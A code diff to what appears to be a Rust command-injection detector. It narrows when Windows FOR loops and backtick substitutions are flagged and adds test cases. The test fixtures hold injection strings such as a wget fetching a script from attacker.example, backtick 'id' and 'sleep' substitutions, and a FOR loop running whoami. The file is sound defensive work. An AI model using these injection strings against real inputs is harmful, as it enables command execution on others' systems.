@@ -19,7 +19,7 @@
 //! fenced block's `\nrm -rf node_modules`), so there a common word (`ls`, `cat`, `grep`, `rm`…)
 //! is only suspicious, and so is a command that only a newline separates; a command no one types
 //! in prose (`whoami`, `wget`, `nslookup`…) after `;`, `|`, `&` or `$(` is confirmed wherever.
-//! A cmd.exe `FOR %a IN (…) DO` loop at the value's start or after a separator is confirmed.
+//! A cmd.exe `FOR %a IN (…) DO` loop after `&` or `|` (cmd's separators) is confirmed.
 
 use super::classes::{self, Mask};
 
@@ -181,10 +181,14 @@ fn windows_for(s: &[u8], i: usize) -> bool {
     }
 }
 
-/// Whether the backtick at `s[i]` opens a substitution whose closing backtick is followed by the
-/// value's end or more of the token.
-fn inside_token(s: &[u8], i: usize) -> bool {
-    classes::find_byte(b'`', &s[i + 1..]).is_some_and(|k| s.get(i + k + 2).is_none_or(|&b| !matches!(b, b' ' | b'\t' | b'\n')))
+/// Whether the backtick at `s[i]`, in the token that starts at `s[start]`, opens a substitution
+/// that hugs the token: a letter or digit before it, and the value's end or more of the token
+/// after its closing backtick. A `+` before it is a form-encoded blank the deep decoding kept
+/// (`The+`id`+field`), and `[`Set`][]` is a Markdown link.
+fn inside_token(s: &[u8], start: usize, i: usize) -> bool {
+    s[i - 1].is_ascii_alphanumeric()
+        && !s[start..i].contains(&b'+')
+        && classes::find_byte(b'`', &s[i + 1..]).is_some_and(|k| s.get(i + k + 2).is_none_or(|&b| !matches!(b, b' ' | b'\t' | b'\n')))
 }
 
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
@@ -207,9 +211,10 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
     if broken_out && s[start..].iter().take(64).any(|&b| b == b'}') {
         return (true, true);
     }
-    // A cmd.exe loop at the value's start or after a separator.
+    // A cmd.exe loop chained after a command with cmd's own separators (`x & for /f …`): a batch
+    // file's lines, pasted, start with theirs.
     if mask & PERCENT != 0
-        && memchr::memmem::find_iter(s, b"for").take(16).any(|i| (i == start || (i > 0 && matches!(s[i - 1], b'&' | b'|' | b';' | b' ' | b'\n') && s[..i].trim_ascii_end().last().is_some_and(|b| matches!(b, b'&' | b'|' | b';' | b'\n')))) && windows_for(s, i))
+        && memchr::memmem::find_iter(s, b"for").take(16).any(|i| s[..i].trim_ascii_end().last().is_some_and(|b| matches!(b, b'&' | b'|')) && windows_for(s, i))
     {
         return (true, true);
     }
@@ -222,7 +227,7 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
             // A backtick at the start, after a separator, blank or quote, or a substitution
             // inside the first token (`a`sleep 5`5`, `x`id``): not Markdown prose, whose code
             // spans follow words and end before a blank.
-            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') || (i < first_blank && !fenced && inside_token(s, i)) => i + 1,
+            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') || (i < first_blank && !fenced && inside_token(s, start, i)) => i + 1,
             b'`' => {
                 suspicious |= command_at(s, i + 1, true, false).1;
                 continue;
@@ -285,10 +290,10 @@ mod tests {
             "1\nenv;",
             "Ran: the nightly job; wget http://attacker.example/x.sh",
             "a`sleep 60`5",
-            "for /l %variable in (1,1,2) do command",
+            "x | for /l %variable in (1,1,2) do command",
             "& FOR %/ IN (a,b,c) DO cmd",
             "x & for /f \"tokens=1\" %%a in ('whoami') do echo %%a",
-            "FOR /L /L /L     %a IN (start,step,end) DO abc",
+            "a&&FOR /L /L /L     %a IN (start,step,end) DO abc",
             "x`id`",
         ] {
             assert!(cmd(p).0, "{p}");
@@ -315,9 +320,13 @@ mod tests {
             "it`s fine, don`t sleep 5 minutes",
             "use`ls -la` and `cat x` there",
             "```powershell\n$env:DEBUG='app:*'; node app.js\n```",
+            "The+`id`+field+is+empty",
+            "[`Set`][] instance.",
             "for i in (1..3) do puts i end",
             "50% for all in (the) store do come",
             "I paid for %20 in (cash) do you see it",
+            "for %%a in (%*) do (",
+            "Got 15% off; for %s in (sales) do check",
         ] {
             assert!(!cmd(t).0, "{t}");
         }
